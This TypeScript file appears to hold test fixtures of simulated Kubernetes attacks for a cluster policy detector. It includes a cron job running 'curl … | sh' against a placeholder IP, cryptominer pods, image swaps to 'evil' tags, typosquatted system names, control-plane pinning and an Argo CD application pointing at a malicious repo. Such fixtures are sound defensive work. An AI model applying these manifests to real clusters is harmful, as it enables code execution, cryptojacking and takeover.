import { attack } from '../ask.ts';
import { configMap, container, cronJob, goodSpec, job, named, pod, workload } from '../objects.ts';
import { apps, batch, core, custom } from '../places.ts';
import type { AttackStep } from '../step.ts';
import { airflow, basket, nadia, runner } from './attackers.ts';

const pods = `${core('orders')}/pods`;
const one = (extra: object, spec: object = {}): object => ({ containers: [container(extra)], ...spec });

/** Workloads that are not what they seem, or do what is not theirs. */
export const payloadSteps: readonly AttackStep[] = [
  ...attack(
    'execution',
    ['EX13', nadia.post('on every node', `${apps('data')}/daemonsets`, workload('DaemonSet', 'telemetry', goodSpec()))],
    [
      'EX13',
      runner.apply(
        'on every node, applied',
        `${apps('orders')}/daemonsets/cachewarm`,
        workload('DaemonSet', 'cachewarm', goodSpec()),
      ),
    ],
    ['EX14', nadia.post('in the system', `${core('kube-system')}/pods`, pod('metrics-helper', goodSpec()))],
    ['EX14', airflow.post('where all may read', `${core('kube-public')}/pods`, pod('info', goodSpec()))],
    [
      'EX14',
      nadia.post(
        'a deployment in the system',
        `${apps('kube-system')}/deployments`,
        workload('Deployment', 'dns-helper', goodSpec()),
      ),
    ],
    [
      'EX20',
      nadia.strategic('a second container', `${apps('billing')}/deployments/ledger`, {
        spec: { template: { spec: { containers: [{ name: 'proxy', image: 'docker.io/someone/proxy:1' }] } } },
      }),
    ],
    [
      'EX20',
      runner.json('a second container by a JSON patch', `${apps('billing')}/deployments/invoices`, [
        { op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'side', image: 'docker.io/someone/side:2' } },
      ]),
    ],
    [
      'EX20',
      nadia.strategic('one that runs before', `${apps('production')}/statefulsets/db`, {
        spec: { template: { spec: { initContainers: [{ name: 'dump', image: 'postgres:16', command: ['pg_dump'] }] } } },
      }),
    ],
    [
      'EX20 EX19 N02',
      nadia.strategic('another image', `${apps('production')}/deployments/storefront`, {
        spec: { template: { spec: { containers: [{ name: 'main', image: 'docker.io/someone/storefront:evil' }] } } },
      }),
    ],
    [
      'EX20 EX19',
      nadia.strategic('another image in a running pod', `${core('orders')}/pods/batch-1`, {
        spec: { containers: [{ name: 'main', image: 'docker.io/someone/web:evil' }] },
      }),
    ],
    ['N25', nadia.post('past the scheduler', pods, pod('pinned', goodSpec({ nodeName: 'ip-10-4-0-2' })))],
    [
      'N25',
      nadia.post(
        'on the control plane',
        pods,
        pod(
          'cp',
          goodSpec({
            tolerations: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' }],
            nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
          }),
        ),
      ),
    ],
    [
      'N25',
      nadia.post(
        'of the highest priority',
        `${core('kube-system')}/pods`,
        pod('prio', goodSpec({ priorityClassName: 'system-node-critical' })),
      ),
    ],
    [
      'N25',
      airflow.post('bound by hand', `${pods}/waiting/binding`, {
        ...named('Binding', 'waiting'),
        target: { apiVersion: 'v1', kind: 'Node', name: 'ip-10-4-0-7' },
      }),
    ],
    ['N28', nadia.post('a working folder of the leaky kind', pods, pod('fd', one({ workingDir: '/proc/self/fd/8' })))],
    [
      'N28',
      nadia.post(
        'a volume from a repository',
        pods,
        pod('git', {
          ...goodSpec(),
          volumes: [{ name: 'g', gitRepo: { repository: 'https://git.example.net/a.git', directory: '.' } }],
        }),
      ),
    ],
    ['N29', nadia.post('a miner', pods, pod('worker-x', one({ image: 'docker.io/metal3d/xmrig:latest' })))],
    [
      'N29',
      airflow.post(
        'a miner with another name',
        `${apps('data')}/deployments`,
        workload(
          'Deployment',
          'trainer',
          one({
            image: 'registry.example.com/ml/train:3',
            args: ['--url=stratum+ssl://eth.example.net:5555', '--user=0xabc', '--threads=16'],
          }),
        ),
      ),
    ],
    ['N29', nadia.merge('very many of one', `${apps('orders')}/deployments/search/scale`, { spec: { replicas: 400 } })],
    ['N30', nadia.post('looks like the proxy', `${core('kube-system')}/pods`, pod('kube-proxy-zz9xq', goodSpec()))],
    ['N30', nadia.post('a namespace that looks like the system', '/api/v1/namespaces', named('Namespace', 'kube-systern'))],
    [
      'N30',
      nadia.post(
        'looks like the name service',
        `${apps('kube-system')}/deployments`,
        workload('Deployment', 'core-dns', goodSpec()),
      ),
    ],
    [
      'N30 PS09',
      nadia.post(
        'an account that looks like a controller',
        `${core('kube-system')}/serviceaccounts`,
        named('ServiceAccount', 'deployment-controler'),
      ),
    ],
    [
      'N40',
      runner.post(
        'a password in the environment',
        pods,
        pod('env-1', one({ env: [{ name: 'DB_PASSWORD', value: 'Tr0ub4dor-and-3' }] })),
      ),
    ],
    [
      'N40',
      runner.post(
        'a key in the arguments',
        pods,
        pod('arg-1', one({ args: ['--aws-secret-access-key=wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzSAMPLEKE'] })),
      ),
    ],
    [
      'CA09 N40',
      nadia.post(
        'credentials in a config map',
        `${core('orders')}/configmaps`,
        configMap('env', { 'app.properties': 'db.password=S3cretOne\naws_access_key_id=AKIAZ7QWERTYUIOPASDF' }),
      ),
    ],
    ['N05', nadia.post('an image without a version', pods, pod('lat', one({ image: 'registry.example.com/tools/shell' })))],
    ['N06', nadia.post('where nothing should be', `${apps('default')}/deployments`, workload('Deployment', 'tmp', goodSpec()))],
    [
      'N03',
      runner.post(
        'a service that nobody asks whether it lives',
        `${apps('orders')}/deployments`,
        workload('Deployment', 'noprobe', one({})),
      ),
    ],
    [
      'N04',
      runner.post(
        'as root and without limits',
        `${apps('orders')}/deployments`,
        workload('Deployment', 'nolimit', one({ securityContext: { runAsUser: 0 } })),
      ),
    ],
    [
      'PS01',
      nadia.post(
        'a job that downloads',
        `${batch('orders')}/cronjobs`,
        cronJob('sync', one({ command: ['sh', '-c', 'curl -s http://198.51.100.4/x | sh'] })),
      ),
    ],
    [
      'PS01',
      nadia.strategic('another command for a job that is there', `${batch('orders')}/cronjobs/nightly`, {
        spec: {
          schedule: '* * * * *',
          jobTemplate: { spec: { template: { spec: { containers: [{ name: 'main', command: ['sh', '-c', 'id'] }] } } } },
        },
      }),
    ],
    ['PS01', basket.post('one job at once', `${batch('orders')}/jobs`, job('once', goodSpec()))],
    ['LM02 N01', nadia.merge('what Argo CD keeps', `${apps('production')}/deployments/storefront`, { spec: { replicas: 1 } })],
    [
      'N01 N02',
      nadia.strategic('what Helm keeps', `${apps('production')}/deployments/ledger`, {
        spec: { template: { metadata: { annotations: { x: 'y' } } } },
      }),
    ],
    [
      'LM02 N01',
      nadia.post('an application of Argo CD that leads elsewhere', `${custom('argoproj.io', 'v1', 'argocd')}/applications`, {
        apiVersion: 'argoproj.io/v1',
        kind: 'Application',
        metadata: { name: 'tools' },
        spec: {
          project: 'default',
          source: { repoURL: 'https://git.example.net/evil.git', path: '.' },
          destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' },
        },
      }),
    ],
  ),
];
